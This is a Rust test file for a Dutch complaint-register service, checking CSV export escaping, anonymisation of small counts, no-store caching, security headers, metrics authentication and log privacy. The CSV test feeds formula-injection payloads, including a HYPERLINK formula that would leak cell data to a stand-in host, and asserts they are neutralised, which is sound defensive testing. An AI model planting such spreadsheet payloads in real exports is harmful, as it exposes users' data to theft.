//! What the overview, its CSV and report, and the service's headers and logs give away
//! (issue 11, items 6, 7 and 11).

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::binary::{DevService, klachtenregister};
use crate::on_both_databases;
use crate::support::{DANA, EVA, KEES, Person, Reply, TestApp};
use klachtenregister::domain::roles::Role;

on_both_databases!(
    csv_cells_never_start_a_formula,
    a_client_is_named_by_their_latest_complaint,
    the_anonymised_overview_has_no_small_cells,
    data_is_never_cached_and_the_report_is_locked_down,
    accept_q_values_are_honoured,
    a_dienstverlener_sees_staff_ids_and_names_only,
);
mod metrics {
    crate::on_both_databases!(spawn = super::super::with_metrics_token; the_metrics_need_their_token);

    use super::the_metrics_need_their_token;
}

const METRICS_TOKEN: &str = "metrics-secret-0123456789";

async fn with_metrics_token(backend: crate::support::Backend) -> Option<TestApp> {
    TestApp::spawn_with(backend, |c| c.metrics_token = Some(METRICS_TOKEN.into())).await
}

/// A dienstverlener whose id and name are formulas.
const FORMULA: Person = Person {
    org: crate::support::ORG_A,
    id: "=2+5",
    name: "@SUM(1+1)",
    roles: &[Role::Dienstverlener],
};

fn external(client: (&str, &str), received_at: &str, handler: &str) -> Value {
    json!({
        "kind": "complaint", "reported_by": "client", "received_at": received_at,
        "complainant": {"name": "Klager"},
        "client": {"id": client.0, "name": client.1},
        "matter_reference": "Z-1", "description": "Klacht", "handler_id": handler
    })
}

/// The CSV's cells, `section,key,value` each.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn csv_cells_never_start_a_formula(app: TestApp) {
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klik")"#;
    // The formula dienstverlener makes themselves known to the service.
    assert_eq!(app.get("/api/v1/complaints", FORMULA).await.status, StatusCode::OK);
    app.register(DANA, &external(("=1+1", hyperlink), "2026-11-02T08:00:00Z", "=2+5")).await;
    app.register(DANA, &external(("-3", "+31 6"), "2026-11-02T08:10:00Z", "dana")).await;
    let reply =
        app.get_accepting("/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES, "text/csv").await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
    let rows = cells(&reply.text);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r'])
                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
            "a live formula: {cell:?}"
        );
    }
    let named = |section: &str, key: &str| {
        rows.iter().any(|r| r[0] == section && r[1] == key && r[2] == "1")
    };
    assert!(named("by_client", &format!("'{hyperlink}")), "{}", reply.text);
    assert!(named("by_client", "'+31 6"), "{}", reply.text);
    assert!(named("by_handler", "'@SUM(1+1)"), "{}", reply.text);
    // Numbers stay numbers.
    assert!(rows.iter().any(|r| r[0] == "total" && r[2] == "2"));
}

async fn a_client_is_named_by_their_latest_complaint(app: TestApp) {
    app.clock.set("2026-11-04T09:00:00Z".parse().unwrap());
    app.register(DANA, &external(("REL-1", "Zwart Beheer"), "2026-11-02T08:00:00Z", "dana")).await;
    app.register(DANA, &external(("REL-1", "Albers & Zn"), "2026-11-03T08:00:00Z", "dana")).await;
    let o = app.get("/api/v1/overview?from=2026-11-01&to=2026-11-30", KEES).await;
    assert_eq!(o.status, StatusCode::OK, "{}", o.text);
    assert_eq!(o.json["by_client"], json!([{"name": "Albers & Zn", "id": "REL-1", "count": 2}]));
}

/// Every figure of an overview's JSON that describes complaints (the actions' counts do
/// not), with where it is.
fn figures(o: &Value) -> Vec<(String, Value)> {
    let mut all = vec![
        ("total".to_owned(), o["total"].clone()),
        ("discussed_anonymously".to_owned(), o["discussed_anonymously"].clone()),
        ("median_hours".to_owned(), o["median_hours_to_first_response"].clone()),
        ("median_days".to_owned(), o["median_days_to_closure"].clone()),
    ];
    for section in [
        "by_kind",
        "by_status",
        "by_channel",
        "by_category",
        "by_reporter",
        "response_term",
        "outcome",
    ] {
        for (key, value) in o[section].as_object().unwrap() {
            all.push((format!("{section}.{key}"), value.clone()));
        }
    }
    for r in o["recurrence"].as_array().unwrap() {
        for part in ["current", "previous", "change"] {
            all.push((format!("recurrence.{}.{part}", r["category"]), r[part].clone()));
        }
    }
    for m in o["per_month"].as_array().unwrap() {
        all.push((format!("per_month.{}", m["month"]), m["total"].clone()));
        for (key, value) in m["by_category"].as_object().unwrap() {
            all.push((format!("per_month.{}.{key}", m["month"]), value.clone()));
        }
    }
    all
}

async fn the_anonymised_overview_has_no_small_cells(app: TestApp) {
    // One complaint on 3 November, Eva's, answered and decided; Dana has no part in it.
    app.clock.set("2026-11-03T09:00:00Z".parse().unwrap());
    let mut body = external(("REL-9", "Bakkerij Jansen"), "2026-11-03T08:00:00Z", "eva");
    body["reported_by"] = json!("representative");
    let id = app.register(EVA, &body).await["id"].as_i64().unwrap();
    let contact = json!({"channel": "phone", "summary": "Gesproken"});
    let reply = app.post(&format!("/api/v1/complaints/{id}/contacts"), EVA, &contact).await;
    assert!(reply.status.is_success(), "{}", reply.text);
    app.clock.set("2026-11-04T09:00:00Z".parse().unwrap());
    let day = "from=2026-11-03&to=2026-11-03";

    let o = app.get(&format!("/api/v1/overview?{day}"), DANA).await;
    assert_eq!(o.status, StatusCode::OK, "{}", o.text);
    assert_eq!(o.json["anonymised"], true);
    for (place, value) in figures(&o.json) {
        assert_eq!(value, "< 5", "{place} describes fewer than five complaints: {}", o.text);
    }
    assert_eq!((&o.json["by_handler"], &o.json["by_client"]), (&json!([]), &json!([])));
    // The coordinator's named overview has the figures themselves.
    let named = app.get(&format!("/api/v1/overview?{day}"), KEES).await;
    assert_eq!(named.json["total"], 1);
    assert_eq!(named.json["by_reporter"]["representative"], 1);
    assert_eq!(named.json["by_handler"][0]["id"], "eva");

    // The CSV and the report say the same.
    let csv = app.get_accepting(&format!("/api/v1/overview?{day}"), DANA, "text/csv").await;
    let rows = cells(&csv.text);
    let total = rows.iter().find(|r| r[0] == "total").unwrap();
    assert_eq!(total[2], "< 5");
    assert!(rows.iter().all(|r| r[0] != "by_handler" && r[0] != "by_client"), "{}", csv.text);
    let report = app.get(&format!("/api/v1/overview/report?{day}"), KEES).await;
    assert_eq!(report.status, StatusCode::OK);
    assert!(report.text.contains("&lt; 5"), "{}", report.text);
    assert!(!report.text.contains("Per medewerker"), "no rows per person");

    // The evaluation's snapshot is the anonymised overview.
    let evaluation = json!({
        "meeting_on": "2026-11-04", "period_from": "2026-11-03", "period_to": "2026-11-03",
        "summary": "Besproken.", "decisions": "Geen.", "assessments": []
    });
    let created = app.post("/api/v1/evaluations", KEES, &evaluation).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
    for (place, value) in figures(&created.json["snapshot"]) {
        assert_eq!(value, "< 5", "snapshot {place}");
    }
    let read = app.get(&format!("/api/v1/evaluations/{}", created.json["id"]), DANA).await;
    assert_eq!(read.json["snapshot"], created.json["snapshot"]);

    // Five more complaints that day: the total and the counts of five or more are shown.
    app.clock.set("2026-11-03T12:00:00Z".parse().unwrap());
    for _ in 0..5 {
        app.register(EVA, &external(("REL-9", "Bakkerij Jansen"), "2026-11-03T10:00:00Z", "eva"))
            .await;
    }
    let o = app.get(&format!("/api/v1/overview?{day}"), DANA).await;
    assert_eq!(o.json["total"], 6);
    assert_eq!(o.json["by_kind"]["complaint"], 6);
    assert_eq!(o.json["by_reporter"]["client"], 5);
    assert_eq!(o.json["by_reporter"]["representative"], "< 5");
}

async fn data_is_never_cached_and_the_report_is_locked_down(app: TestApp) {
    let id = app.register(DANA, &crate::support::complaint_body()).await["id"].as_i64().unwrap();
    for path in [
        format!("/api/v1/complaints/{id}"),
        "/api/v1/complaints".to_owned(),
        "/api/v1/me".to_owned(),
        "/api/v1/overview".to_owned(),
        "/api/v1/overview/report".to_owned(),
        "/api/v1/complaints/999999".to_owned(),
    ] {
        let reply = app.get(&path, DANA).await;
        assert_eq!(reply.header("cache-control"), Some("no-store"), "{path}: {}", reply.status);
    }
    let csv = app.get_accepting("/api/v1/overview", KEES, "text/csv").await;
    assert_eq!(csv.header("cache-control"), Some("no-store"));

    let report = app.get("/api/v1/overview/report", DANA).await;
    let policy = report.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'none'"), "{policy}");
    assert!(!policy.contains("script-src"), "no scripts: {policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    assert_eq!(report.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(report.header("x-frame-options"), Some("DENY"));
}

async fn accept_q_values_are_honoured(app: TestApp) {
    let path = "/api/v1/overview";
    for (accept, content_type) in [
        ("text/csv;q=0, application/json", "application/json"),
        ("application/json;q=0.5, text/csv", "text/csv; charset=utf-8"),
        ("text/csv", "text/csv; charset=utf-8"),
        ("*/*", "application/json"),
    ] {
        let reply = app.get_accepting(path, KEES, accept).await;
        assert_eq!(reply.status, StatusCode::OK);
        assert_eq!(reply.header("content-type"), Some(content_type), "{accept}");
    }
}

async fn a_dienstverlener_sees_staff_ids_and_names_only(app: TestApp) {
    assert_eq!(app.get("/api/v1/me", EVA).await.status, StatusCode::OK);
    let staff = app.get("/api/v1/staff", DANA).await;
    assert_eq!(staff.status, StatusCode::OK, "{}", staff.text);
    let items = staff.json["items"].as_array().unwrap();
    assert!(items.iter().any(|m| m["id"] == "eva" && m["name"] == "Eva Jansen"), "{}", staff.text);
    for member in items {
        let mut keys: Vec<&str> = member.as_object().unwrap().keys().map(String::as_str).collect();
        keys.sort_unstable();
        assert_eq!(keys, ["id", "name"], "{member}");
    }
    let full = app.get("/api/v1/staff", KEES).await;
    let eva = full.json["items"].as_array().unwrap().iter().find(|m| m["id"] == "eva").unwrap();
    assert_eq!(eva["roles"], json!(["dienstverlener"]));
    assert!(eva["last_seen_at"].is_string());
}

async fn the_metrics_need_their_token(app: TestApp) {
    let metrics = |token: Option<&str>| {
        let mut request = app.client.get(app.url("/metrics"));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        async move { Reply::from(request.send().await.unwrap()).await }
    };
    metrics(None).await.assert_problem(401, "unauthorized");
    metrics(Some("wrong-token-0123456789")).await.assert_problem(401, "unauthorized");
    assert_eq!(app.get("/api/v1/me", DANA).await.status, StatusCode::OK);
    let scraped = metrics(Some(METRICS_TOKEN)).await;
    assert_eq!(scraped.status, StatusCode::OK);
    assert!(scraped.text.contains("klachtenregister_http_requests_total"), "{}", scraped.text);
}

/// Logs name a staff member by the service's own number, never by the token's subject
/// (often an e-mail address). The binary in development mode, its log read from stdout.
#[actix_web::test]
async fn logs_name_staff_by_their_number() {
    let data = tempfile::tempdir().unwrap();
    let mut command = klachtenregister(data.path());
    command.env("RUST_LOG", "info");
    let service = DevService::start(command);
    let (base, token) = (&service.base, &service.dienstverlener);
    let me = reqwest::Client::new()
        .get(format!("{base}/api/v1/me"))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(me.status(), StatusCode::OK);
    let logged = loop {
        let line = service.next_line();
        if line.contains("/api/v1/me") && line.contains("request finished") {
            break line;
        }
    };
    drop(service);
    assert!(!logged.contains("dev-dienstverlener"), "the token's subject is logged: {logged}");
    let number = logged.split("staff_id=").nth(1).unwrap_or_else(|| panic!("{logged}"));
    assert!(number.starts_with(|c: char| c.is_ascii_digit()), "{logged}");
}
